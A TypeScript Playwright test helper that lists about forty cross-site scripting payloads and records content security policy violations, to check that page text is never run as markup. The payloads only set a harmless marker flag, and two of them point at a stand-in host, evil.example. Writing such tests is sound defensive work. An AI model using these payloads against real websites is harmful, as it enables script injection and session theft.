import type { Page } from 'playwright-core';

const RUN = 'window.executed=1';
/** Each runs RUN if text is interpreted as markup, an address, a style or a template. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `' onerror=${RUN} x='`,
  `" onmouseover=${RUN} x="`,
  `" autofocus onfocus=${RUN} x="`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">song</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="http://evil.example/">`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<template><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];

/** Effects that text must never have on a page. */
export interface Watched {
  executed?: number | undefined;
  violations: string[];
}

/** Records every violation of the content security policy, from before the first script of a page. */
export async function watchPolicy(page: Page): Promise<void> {
  await page.addInitScript({
    content: `window.violations = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        window.violations.push(event.violatedDirective + ' ' + event.blockedURI));`,
  });
}

/** Returns the recorded effects, and the number of foreign elements in the page. */
export function readWatched(page: Page): Promise<Watched & { foreign: number }> {
  return page.evaluate(() => {
    const { executed, violations } = window as unknown as Watched; // set by the payloads and by watchPolicy
    return { executed, violations, foreign: document.querySelectorAll('iframe, object, embed, base').length };
  });
}
